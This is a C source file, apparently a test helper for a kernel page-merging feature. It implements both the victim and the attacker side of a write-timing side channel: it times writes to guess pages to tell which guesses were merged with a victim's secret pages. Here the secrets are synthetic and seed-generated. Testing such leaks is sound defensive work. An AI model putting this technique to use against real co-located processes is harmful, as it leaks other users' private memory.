/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * guess - both sides of the write-timing attack on merged memory
 *
 * The victim holds --pages pages that nobody should know. The attacker holds
 * its guesses: the same pages, each beside one that nobody else has. A guess
 * that was merged with the victim's page takes long to be written to, because
 * the kernel copies it first. The attacker also holds bait, --pages pages
 * twice, so that there is something of its own to be merged; nobody's guess
 * lies in between.
 *
 * Talks in lines, one answer for each:
 *	(start)		"ready"
 *	"where"		"START END" of the secrets or guesses, hexadecimal
 *	"write"		"right NSEC wrong NSEC": medians of one write to each
 *	(end of file)	it ends, exit status 0
 */
#include <err.h>
#include <getopt.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>

#include <ksmd-plus/types.h>

#define PAGE_WORDS (PAGE_BYTES / sizeof(uint64_t))

/* What a page is made from, beside its number. */
enum content { CONTENT_SECRET = 1, CONTENT_WRONG, CONTENT_BAIT };

struct options {
	bool attacker;
	bool registers; /* secrets or guesses, with madvise() */
	uint64_t n_pages;
	uint64_t seed;
};

/* splitmix64 */
static uint64_t mix(uint64_t x)
{
	x += 0x9e3779b97f4a7c15ULL;
	x = (x ^ x >> 30) * 0xbf58476d1ce4e5b9ULL;
	x = (x ^ x >> 27) * 0x94d049bb133111ebULL;
	return x ^ x >> 31;
}

static void page_fill(const struct options *o, uint64_t *page,
		      enum content content, uint64_t number)
{
	uint64_t key = mix(mix(o->seed * 4 + content) + number);

	for (uint64_t i = 0; i < PAGE_WORDS; i++)
		page[i] = mix(key + i);
}

static uint64_t *pages_map(uint64_t n)
{
	uint64_t *p = mmap(NULL, n * PAGE_BYTES, PROT_READ | PROT_WRITE,
			   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	if (p == MAP_FAILED)
		err(2, "mmap");
	/* a huge page would be split before one of its pages is merged */
	madvise(p, n * PAGE_BYTES, MADV_NOHUGEPAGE);
	return p;
}

static uint64_t nsec(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000000000ULL + (uint64_t)ts.tv_nsec;
}

static int compare(const void *a, const void *b)
{
	const uint64_t *x = a, *y = b;

	return *x < *y ? -1 : *x > *y;
}

static uint64_t median(uint64_t *v, uint64_t n)
{
	qsort(v, n, sizeof(*v), compare);
	return v[n / 2];
}

/* Guesses by turns: both kinds meet the same machine. */
static void measure(const struct options *o, uint64_t *guesses)
{
	uint64_t *took[2];

	for (int kind = 0; kind < 2; kind++) {
		took[kind] = calloc(o->n_pages, sizeof(uint64_t));
		if (!took[kind])
			err(2, "calloc");
	}
	for (uint64_t i = 0; i < 2 * o->n_pages; i++) {
		volatile uint64_t *word = guesses + i * PAGE_WORDS;
		uint64_t start = nsec();

		*word = i;
		took[i % 2][i / 2] = nsec() - start;
	}
	printf("right %llu wrong %llu\n",
	       (unsigned long long)median(took[0], o->n_pages),
	       (unsigned long long)median(took[1], o->n_pages));
	free(took[0]);
	free(took[1]);
}

static void options_parse(int argc, char **argv, struct options *o)
{
	static const struct option longs[] = {
		{ "attacker", no_argument, NULL, 'a' },
		{ "register", no_argument, NULL, 'r' },
		{ "pages", required_argument, NULL, 'p' },
		{ "seed", required_argument, NULL, 's' },
		{ 0 },
	};
	int c;

	*o = (struct options){ .n_pages = 256, .seed = 1 };
	while ((c = getopt_long(argc, argv, "", longs, NULL)) >= 0) {
		if (c == 'a')
			o->attacker = true;
		else if (c == 'r')
			o->registers = true;
		else if (c == 'p')
			o->n_pages = strtoull(optarg, NULL, 10);
		else if (c == 's')
			o->seed = strtoull(optarg, NULL, 10);
		else
			exit(2);
	}
	if (!o->n_pages)
		errx(2, "--pages: 1 or more");
}

static void bait_lay(const struct options *o)
{
	uint64_t *bait = pages_map(2 * o->n_pages);

	for (uint64_t i = 0; i < 2 * o->n_pages; i++)
		page_fill(o, bait + i * PAGE_WORDS, CONTENT_BAIT,
			  i % o->n_pages);
}

int main(int argc, char **argv)
{
	struct options o;
	uint64_t n, *pages;
	char line[64];

	options_parse(argc, argv, &o);
	n = o.attacker ? 2 * o.n_pages : o.n_pages;
	pages = pages_map(n);
	for (uint64_t i = 0; i < n; i++)
		page_fill(&o, pages + i * PAGE_WORDS,
			  o.attacker && i % 2 ? CONTENT_WRONG : CONTENT_SECRET,
			  o.attacker ? i / 2 : i);
	if (o.registers && madvise(pages, n * PAGE_BYTES, MADV_MERGEABLE) < 0)
		err(77, "MADV_MERGEABLE");
	if (o.attacker) {
		/* keeps what is laid now out of the guesses' mapping */
		mmap(NULL, PAGE_BYTES, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS,
		     -1, 0);
		bait_lay(&o);
	}
	puts("ready");
	fflush(stdout);
	while (fgets(line, sizeof(line), stdin)) {
		if (!strcmp(line, "write\n") && o.attacker)
			measure(&o, pages);
		else if (!strcmp(line, "where\n"))
			printf("%lx %lx\n", (unsigned long)pages,
			       (unsigned long)(pages + n * PAGE_WORDS));
		else
			puts("what?");
		fflush(stdout);
	}
	return 0;
}
